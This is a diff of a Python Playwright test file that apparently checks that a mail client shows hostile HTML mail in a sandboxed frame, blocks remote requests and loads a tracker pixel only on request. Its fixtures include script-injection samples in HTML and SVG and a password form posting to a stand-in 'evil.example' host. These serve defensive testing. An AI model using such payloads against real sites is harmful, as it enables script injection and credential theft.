@@ -1,11 +1,11 @@
 """What strangers send is shown, and never runs."""
 
-import base64
 from itertools import pairwise
 
 from playwright.sync_api import Browser, CDPSession, Page, expect
 
-from tests.browser.lab import Inbox
+from tests.browser.lab import Inbox, Lab
+from tests.browser.samples import PNG, file
 from tests.browser.stage import Stage
 from widgets import assets
 
@@ -21,15 +21,6 @@ HTML = f"""<html><head><script>{EVIL}; parent.pwned = 1; top.pwned = 1</script>
 <form action="https://evil.example"><input name="password"></form>
 <p style="height: 900px">tall</p></body></html>"""
 SVG = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{EVIL}</script></svg>"
-PNG = (
-    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5E"
-    "rkJggg=="
-)
-
-
-def file(name: str, mime: str, data: bytes | str, **more: object) -> dict[str, object]:
-    encoded = data if isinstance(data, str) else base64.b64encode(data).decode()
-    return {"name": name, "mime": mime, "data": encoded, **more}
 
 
 def unharmed(page: Page) -> bool:
@@ -132,12 +123,10 @@ def steep(short: float, long: float) -> bool:
     return long > 9 * max(short, 0.005)
 
 
-def test_html_mail_is_shown_in_a_sealed_frame(inbox: Inbox, hub: Stage) -> None:
+def test_html_mail_is_shown_in_a_sealed_frame(inbox: Inbox, hub: Stage, lab: Lab) -> None:
     flower = file("flower.png", "image/png", PNG, content_id="flower", inline=True)
     hub.writes("Hugo Html", "Our spring catalogue", channel="Mail", html=HTML, subject="Spring",
                files=[flower])  # fmt: skip
-    asked: list[str] = []
-    inbox.page.on("request", lambda request: asked.append(request.url))
     inbox.open("Hugo Html")
     element = inbox.messages.locator("iframe")
     sandbox = (element.get_attribute("sandbox") or "").split()
@@ -151,11 +140,11 @@ def test_html_mail_is_shown_in_a_sealed_frame(inbox: Inbox, hub: Stage) -> None:
     height = element.bounding_box()
     assert height is not None
     assert height["height"] > 900
-    assert not [url for url in asked if "tracker" in url or "evil" in url]
+    assert lab.asked(inbox.page) == []
     with inbox.page.expect_request("http://tracker.example/pixel.png"):
         inbox.messages.get_by_role("button", name="Show images").click()
     expect(inbox.messages.get_by_role("button", name="Show images")).to_be_hidden()
-    assert not [url for url in asked if "evil" in url]
+    assert lab.asked(inbox.page) == ["http://tracker.example/pixel.png"]
     assert unharmed(inbox.page)
 
 
